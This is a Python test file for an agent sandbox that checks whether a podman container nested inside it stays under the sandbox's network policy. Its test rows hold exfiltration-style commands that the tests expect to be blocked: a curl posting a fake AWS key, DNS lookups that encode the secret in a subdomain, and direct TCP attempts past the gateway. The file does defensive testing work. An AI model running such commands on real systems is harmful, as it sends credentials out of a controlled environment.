"""A container engine inside a bottle (podman, as agents run it): it works by the bottle's own means, and its traffic is the bottle's."""

import json
import shlex
import unittest

import lab
from lab import BOTTLE_IMAGE, CONTAINERS, NAME, ORIGIN, run

NETWORKS = [
    ("the bottle's network", []),
    ("a network of its own", ["--network", "slirp4netns"]),
]
# What runs inside the container inside the bottle, and the words in which it ends.
INSIDE = [
    ("what is allowed works", "curl -sS https://origin.test/", "the origin"),
    ("it is the bottle", "curl -sS http://decant.internal/whoami", '"session":"{name}-nested"'),
    ("a secret is refused", "curl -sS -d key={secret} https://origin.test/", '"reason":"detector"'),
    ("a host that nobody allowed", "curl -sS https://elsewhere.test/", '"reason":"policy"'),
    ("nothing goes past the gateway", "python3 /attempt.py tcp {origin} 8080", "not there"),
    ("no name server answers", "python3 /attempt.py dns {origin} {secret}.wild.test", "not there"),
    ("nor does the engine's own", "python3 /attempt.py dns 10.0.2.3 {secret}.wild.test", "not there"),
]
LENT = ["--volume", "/usr:/usr:ro", "--volume", "/etc/ssl:/etc/ssl:ro", "--volume", "/attempt.py:/attempt.py:ro"]


class Nested(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.lab = lab.shared()

    def bottle(self, command):
        launcher = [CONTAINERS / "bottle", "--session", f"{NAME}-nested", "--nested", "--label", f"{NAME}=1", "--device", "/dev/net/tun",
                    "--volume", f"{lab.TESTS}/attempt.py:/attempt.py:ro", BOTTLE_IMAGE]
        return run(*launcher, "bash", "-c", command, check=False, env=self.lab.environment(), timeout=240)

    def test_its_traffic_is_the_bottles(self):
        secret = lab.aws_key()
        fill = {"secret": secret, "origin": ORIGIN}
        # One bottle, one image, one container a network: a mark stands before what each row says.
        inside = "\n".join(f"echo \"<{place}>\"; {command.format(**fill)}" for place, (_, command, _) in enumerate(INSIDE))
        script = "podman pull -q registry.test/image:nested >/dev/null && echo pulled\n"
        for network, options in NETWORKS:
            script += f"echo {shlex.quote(f'<{network}>')}; podman run --rm {' '.join(options + LENT)} registry.test/image:nested bash -c {shlex.quote(inside)}\n"
        said = self.bottle(script)
        self.assertIn("pulled", said)
        for network, _ in NETWORKS:
            told = said.partition(f"<{network}>")[2]
            for place, (name, _, words) in enumerate(INSIDE):
                with self.subTest(f"{network}: {name}"):
                    row = told.partition(f"<{place}>")[2].partition("<")[0]
                    self.assertIn(words.replace("{name}", NAME), row, said)
        self.assertNotIn(secret.lower(), json.dumps(self.lab.seen()).lower())
        pulls = [one for one in self.lab.seen() if "/v2/image/blobs/" in one["what"]]
        self.assertEqual({one["peer"] for one in pulls}, {lab.GATEWAY})

    def test_an_ordinary_bottle_makes_no_engine(self):
        """Without --nested nothing of this is open."""
        bottle = self.lab.bottle("plain")
        self.assertIn("Operation not permitted", bottle.sh("unshare --user --map-root-user true"))


if __name__ == "__main__":
    unittest.main()
